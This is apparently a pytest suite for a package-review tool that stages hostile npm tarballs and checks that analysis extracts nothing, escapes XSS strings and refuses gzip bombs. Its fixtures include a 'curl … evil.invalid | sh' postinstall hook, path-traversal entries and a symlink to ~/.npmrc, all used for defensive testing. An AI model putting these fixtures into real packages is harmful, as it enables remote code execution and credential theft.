"""Hostile tarballs staged at a live dev registry, synced, downloaded and analysed: nothing is
followed or written, what is not a file is a finding, limits refuse with a reason, and every
page renders escaped."""

from __future__ import annotations

import json
import os
import tarfile

import pytest
from django.db import DataError
from django.test import Client
from django.urls import reverse
from django.utils import timezone

import devregistry.api
from devregistry.routing import Context
from devregistry.wire import Request, Response
from reviews.audit.trail import Action, Actor
from reviews.decide import npm_tokens
from reviews.mirror import leases
from reviews.models import (
    Analysis,
    AuditEvent,
    FileChangeRow,
    StageBaseline,
    StagedVersion,
    Team,
)
from reviews.review import analysis
from tests.inspect.builders import Entry, gzip_bomb, make_tarball, many_entries, package
from tests.personas import World
from tests.review.support import Registry
from tests.review.test_pages import HTMX_DIFF, file_page, page

pytestmark = pytest.mark.django_db

NAME = "@acme/evil"


def manifest(**extra: object) -> Entry:
    return Entry("package/package.json", package(NAME, "1.0.0", **extra))


INSTALL_SCRIPT = "curl -s https://evil.invalid/x | sh"


def raw_manifest(tail: bytes = b"") -> bytes:
    """A package.json with an install script, then `tail` (raw JSON members) before its end."""
    head = json.dumps(
        {"name": NAME, "version": "1.0.0", "scripts": {"postinstall": INSTALL_SCRIPT}}
    ).encode()
    return head[:-1] + tail + b"}"


def staged(name: str = NAME) -> StagedVersion:
    return StagedVersion.objects.get(package_name=name)


def analysis_of(stage: StagedVersion) -> Analysis:
    found = stage.review_baseline.analysis
    assert found is not None
    return found


def test_links_devices_and_paths_outside_the_package_are_findings_not_files(
    registry: Registry, viewer, tmp_path, monkeypatch
):
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    tarball = make_tarball(
        [
            manifest(),
            Entry("package/index.js", b"require('./secret')\n"),
            Entry("package/../../evil.js", b"owned\n"),
            Entry("/etc/cron.d/evil", b"* * * * * root owned\n"),
            Entry("package/secret.js", type=tarfile.SYMTYPE, linkname="/home/user/.npmrc"),
            Entry("package/hard.js", type=tarfile.LNKTYPE, linkname="package/index.js"),
            Entry("package/tty", type=tarfile.CHRTYPE),
        ],
        tar_format=tarfile.GNU_FORMAT,
    )

    stage = registry.stage(NAME, "1.0.0", tarball=tarball)

    found = analysis_of(stage)
    assert found.status == Analysis.Status.DONE
    paths = set(FileChangeRow.objects.filter(analysis=found).values_list("path", flat=True))
    assert paths == {"index.js", "package.json"}
    kinds = [finding["kind"] for finding in found.findings]
    assert kinds == ["parent-path", "absolute-path", "symlink", "hardlink", "device"]
    assert list(cwd.iterdir()) == []  # nothing was extracted anywhere

    body = page(viewer, stage)
    findings = body[body.index('id="findings"') : body.index('id="files"')]
    assert "package/../../evil.js" in findings
    assert "/etc/cron.d/evil" in findings
    assert "symbolic link to /home/user/.npmrc" in findings
    assert "character device" in findings
    assert 'data-path="secret.js"' not in body


def test_script_in_names_bodies_and_package_json_is_escaped_everywhere(registry: Registry, viewer):
    evil_name = "<script>alert(1)</script>.js"
    tarball = make_tarball(
        {
            "package.json": package(
                NAME,
                "1.0.0",
                scripts={"postinstall": "<img src=x onerror=alert(3)>"},
                dependencies={"<b>bold</b>": "<i>1</i>"},
                description="\u202eevil",
            ),
            evil_name: b"<script>alert(2)</script>\n",
            "\u202egnp.js": b"x\n",
        }
    )

    stage = registry.stage(NAME, "1.0.0", tarball=tarball)

    assert analysis_of(stage).files_added == 3
    shown = [
        page(viewer, stage),
        file_page(viewer, stage, evil_name).content.decode(),
        file_page(viewer, stage, evil_name, HTMX_DIFF, layout="split").content.decode(),
        file_page(viewer, stage, evil_name, HTMX_DIFF, layout="file").content.decode(),
        file_page(viewer, stage, "package.json", HTMX_DIFF).content.decode(),
    ]
    for html in shown:
        assert "<script>alert" not in html
        assert "<img src=x" not in html
        assert "<b>bold" not in html
        assert "\u202e" not in html
    body = shown[0]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;.js" in body
    assert "&lt;img src=x onerror=alert(3)&gt;" in body
    assert "&lt;b&gt;bold&lt;/b&gt;" in body
    assert "[U+202E]gnp.js" in body
    assert "alert" in shown[1]  # the body is shown, highlighted and escaped
    assert "alert" in shown[1]  # the body is shown, highlighted and escaped
    assert "&lt;" in shown[1]


def test_zero_padding_hides_nothing_the_tarball_is_read_whole(registry: Registry, viewer):
    # 3 MiB of zeros in a few kilobytes: no absolute limit is near, whatever the ratio.
    tarball = make_tarball({"package.json": raw_manifest(), "padding.bin": bytes(3 * 1024 * 1024)})
    assert len(tarball) < 5_000

    stage = registry.stage(NAME, "1.0.0", tarball=tarball)

    assert stage.integrity == StagedVersion.Integrity.VERIFIED
    found = analysis_of(stage)
    assert found.status == Analysis.Status.DONE
    assert found.files_added == 2
    assert stage.unread_tarball() == ""
    body = page(viewer, stage)
    assert 'id="unread-tarball"' not in body
    hooks = body[body.index('id="manifest"') : body.index('id="files"')]
    assert "postinstall" in hooks
    assert INSTALL_SCRIPT in hooks


def test_a_gzip_bomb_over_the_unpacked_limit_is_refused_and_leads_the_page(
    registry: Registry, viewer, settings
):
    settings.GREENROOM_ANALYSIS_MAX_UNPACKED_BYTES = 32 * 1024 * 1024
    bomb = gzip_bomb(40 * 1024 * 1024)
    assert len(bomb) < 200_000

    stage = registry.stage(NAME, "1.0.0", tarball=bomb)

    found = analysis_of(stage)
    assert found.status == Analysis.Status.REFUSED
    assert (found.refusal_side, found.refusal_reason) == ("staged", "total-size")
    assert not FileChangeRow.objects.filter(analysis=found).exists()
    body = page(viewer, stage)
    assert body.index('id="unread-tarball"') < body.index('id="review-head"')
    assert "Critical: Greenroom could not read this whole tarball" in body
    assert "Reading it stopped early: The tarball unpacks to more than 32 MiB." in body
    assert "The staged tarball was refused" in body
    assert 'id="files"' not in body

    # With a higher limit, `analyse_stage --again` reads it whole (a refusal is re-run too).
    settings.GREENROOM_ANALYSIS_MAX_UNPACKED_BYTES = 64 * 1024 * 1024
    with registry.client() as client:
        assert analysis.analyse_stage(stage.pk, client=client, again=True).status == "done"
    found.refresh_from_db()
    assert (found.status, found.refusal_reason, found.refusal_message) == ("done", "", "")
    assert stage.unread_tarball() == "The staged package.json is missing."


def test_a_hundred_thousand_tiny_entries_stop_at_the_entry_limit(registry: Registry, viewer):
    stage = registry.stage(NAME, "1.0.0", tarball=many_entries(100_000))

    found = analysis_of(stage)
    assert found.status == Analysis.Status.REFUSED
    assert found.refusal_reason == "entries"
    assert "more than 50,000 entries" in found.refusal_message
    body = page(viewer, stage)
    assert "Reading it stopped early: The tarball has more than 50,000 entries." in body


def test_a_manifest_nested_100000_deep_is_unreadable_with_a_reason_and_the_pass_goes_on(
    registry: Registry, viewer
):
    deep = raw_manifest(b', "x": ' + b"[" * 100_000 + b"]" * 100_000)
    registry.stage_only(NAME, "1.0.0", tarball=make_tarball({"package.json": deep}))
    registry.stage_only("@acme/fine", "1.0.0")

    line = registry.sync_pass()

    assert "1 verified, 1 mismatch, 0 unavailable, 0 deferred" in line
    assert staged("@acme/fine").integrity == StagedVersion.Integrity.VERIFIED
    stage = staged()
    assert stage.integrity == StagedVersion.Integrity.MISMATCH
    too_deep = "nests too deeply to read (more than 100 levels)."
    assert stage.integrity_reason.startswith(f"tarball unreadable: its package.json {too_deep}")
    found = analysis_of(stage)
    assert found.status == Analysis.Status.DONE
    assert found.manifest["problems"] == [f"The staged package.json {too_deep}"]
    # Its scripts are unknown, not absent: the page leads with that.
    assert stage.unread_tarball() == f"The staged package.json {too_deep}"
    body = page(viewer, stage)
    assert body.index('id="unread-tarball"') < body.index('id="review-head"')
    assert f"its package.json {too_deep}" in body
    assert f"The staged package.json {too_deep}" in body
    assert page(viewer, staged("@acme/fine")).count('id="unread-tarball"') == 0


def test_a_manifest_over_a_mebibyte_is_unreadable_with_its_size(registry: Registry, viewer):
    huge = raw_manifest(b', "description": "' + os.urandom(1024 * 1024).hex().encode() + b'"')

    stage = registry.stage(NAME, "1.0.0", tarball=make_tarball({"package.json": huge}))

    over = f"is {len(huge):,} bytes, over the 1,048,576 read."
    assert stage.integrity == StagedVersion.Integrity.MISMATCH
    assert stage.integrity_reason.startswith(f"tarball unreadable: its package.json {over}")
    found = analysis_of(stage)
    assert found.manifest["problems"] == [f"The staged package.json {over}"]
    assert stage.unread_tarball() == f"The staged package.json {over}"
    body = page(viewer, stage)
    assert 'id="unread-tarball"' in body
    assert f"The staged package.json {over}" in body


def test_nul_and_lone_surrogates_in_package_json_are_stored_as_visible_markers(
    registry: Registry, viewer
):
    manifest = package(
        NAME,
        "1.0.0",
        scripts={"postinstall": "curl -s https://evil.invalid/x\0 | sh", "pre\0install": "x"},
        dependencies={"left\0pad": "1.0.0"},
        bin={"x": "cli\ud800.js"},
    )
    assert b"\\u0000" in manifest  # an escape in the JSON text, a NUL once parsed
    assert b"\\ud800" in manifest

    stage = registry.stage(NAME, "1.0.0", tarball=make_tarball({"package.json": manifest}))

    assert stage.integrity == StagedVersion.Integrity.VERIFIED
    found = analysis_of(stage)
    assert found.status == Analysis.Status.DONE
    scripts = {entry["key"]: entry["new"] for entry in found.manifest["scripts"]}
    assert scripts == {
        "postinstall": "curl -s https://evil.invalid/x\u2400 | sh",
        "pre\u2400install": "x",
    }
    assert [entry["key"] for entry in found.manifest["dependencies"]] == ["left\u2400pad"]
    assert [entry["new"] for entry in found.manifest["bin"]] == ["cli\ufffd.js"]
    body = page(viewer, stage)
    hooks = body[body.index('id="manifest"') : body.index('id="files"')]
    assert "curl -s https://evil.invalid/x\u2400 | sh" in hooks
    assert "left\u2400pad" in hooks


def test_a_name_with_a_nul_is_cut_where_tar_readers_cut_it(registry: Registry, viewer):
    # pax (here because of the é) carries the whole name; C strings end at the NUL.
    tarball = make_tarball([manifest(), Entry("package/\u00e9vil\0.js.txt", b"x\n")])

    stage = registry.stage(NAME, "1.0.0", tarball=tarball)

    found = analysis_of(stage)
    assert found.status == Analysis.Status.DONE
    paths = set(FileChangeRow.objects.filter(analysis=found).values_list("path", flat=True))
    assert paths == {"package.json", "\u00e9vil"}


# -- A failure anywhere ends the analysis, with why on the page -----------------------------------


def test_a_row_the_database_refuses_ends_the_analysis_failed_with_why(
    registry: Registry, viewer, monkeypatch
):
    def refuse(*args: object, **kwargs: object) -> None:
        raise DataError("unsupported Unicode escape sequence")

    monkeypatch.setattr(FileChangeRow.objects, "bulk_create", refuse)

    stage = registry.stage(NAME, "1.0.0", tarball=make_tarball([manifest()]))

    found = analysis_of(stage)
    assert found.status == Analysis.Status.FAILED
    assert found.error == "DataError: unsupported Unicode escape sequence"
    assert not FileChangeRow.objects.filter(analysis=found).exists()
    body = page(viewer, stage)
    assert "Analysing" not in body
    assert "The analysis failed (DataError: unsupported Unicode escape sequence)" in body


def test_a_crash_before_the_analysis_is_a_problem_on_the_page(
    registry: Registry, viewer, monkeypatch
):
    def crash(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr(analysis, "choose_baseline", crash)

    stage = registry.stage(NAME, "1.0.0", tarball=make_tarball([manifest()]))

    problem = StageBaseline.objects.get(stage=stage).problem
    assert problem.startswith("The analysis could not run: RuntimeError: a bug.")
    assert f"analyse_stage {stage.stage_id} --again" in problem
    assert analysis.stages_needing_analysis() == []  # not queued again and again
    body = page(viewer, stage)
    assert "Analysing" not in body
    assert "The analysis could not run: RuntimeError: a bug." in body


def test_an_analysis_whose_workers_keep_dying_ends_failed(registry: Registry, viewer):
    stage = registry.stage(NAME, "1.0.0", tarball=make_tarball([manifest()]), analyse=False)
    with registry.client() as client:
        analysis.analyse_stage(stage.pk, client=client)
    # Every worker that took it died (killed for memory, say) and left it running.
    long_ago = timezone.now() - leases.lease() * 2
    Analysis.objects.update(
        status=Analysis.Status.RUNNING, claimed_at=long_ago, attempts=analysis.MAX_ATTEMPTS
    )
    assert analysis.stages_needing_analysis() == [stage.pk]

    with registry.client() as client:
        outcome = analysis.analyse_stage(stage.pk, client=client)

    assert outcome.status == Analysis.Status.FAILED
    found = analysis_of(stage)
    assert found.status == Analysis.Status.FAILED
    assert found.error.startswith("it stopped without finishing 3 times")
    assert analysis.stages_needing_analysis() == []
    assert "stopped without finishing 3 times" in page(viewer, stage)


# -- A tarball Greenroom could not read whole: critical, and approving needs an acknowledgement --


@pytest.fixture
def approvals(monkeypatch) -> list[str]:
    """The approve requests that reached the registry."""
    seen: list[str] = []
    handle = devregistry.api.handle

    def counting(ctx: Context, request: Request) -> Response:
        if request.method == "POST" and request.path.endswith("/approve"):
            seen.append(request.path)
        return handle(ctx, request)

    monkeypatch.setattr(devregistry.api, "handle", counting)
    return seen


def test_a_truncated_tarball_leads_the_page_and_approving_needs_an_acknowledgement(
    registry: Registry, world: World, approvals: list[str]
):
    whole = make_tarball({"package.json": raw_manifest(), "index.js": os.urandom(64 * 1024)})
    stage = registry.stage(NAME, "1.0.0", tarball=whole[: len(whole) // 2])
    unread = "Reading it stopped early: The gzip stream ends early."
    assert stage.unread_tarball() == unread
    npm_tokens.link(world.approver, registry.token, Actor(user=world.approver))
    # The registry token staged it too: this test is about the acknowledgement, not who staged.
    Team.objects.filter(pk=world.acme.pk).update(no_self_approval=False)
    client = Client()
    client.force_login(world.approver)

    body = page(client, stage)
    assert body.index('id="unread-tarball"') < body.index('id="review-head"')
    assert unread in body
    form = client.get(reverse("reviews:stage-approve-form", args=[stage.stage_id]))
    assert 'name="acknowledge_unread"' in form.content.decode()
    assert "I understand Greenroom could not read this whole tarball" in form.content.decode()

    refused = client.post(reverse("reviews:stage-approve", args=[stage.stage_id]))

    assert refused.status_code == 400
    assert "tick this box to approve it anyway" in refused.content.decode()
    assert approvals == []
    stage.refresh_from_db()
    assert stage.state == StagedVersion.State.PENDING

    # The truncation is also a critical finding, which the team's policy asks to be ticked.
    approved = client.post(
        reverse("reviews:stage-approve", args=[stage.stage_id]),
        {"acknowledge_unread": "on", "acknowledge_findings": "on"},
    )

    assert approved.status_code == 303
    assert len(approvals) == 1
    stage.refresh_from_db()
    assert stage.state == StagedVersion.State.APPROVED
    event = AuditEvent.objects.filter(stage=stage).order_by("-id").first()
    assert event is not None
    assert event.action == Action.STAGE_APPROVED
    assert event.payload["acknowledged"] == (
        f"I understand Greenroom could not read this whole tarball: {unread}"
    )
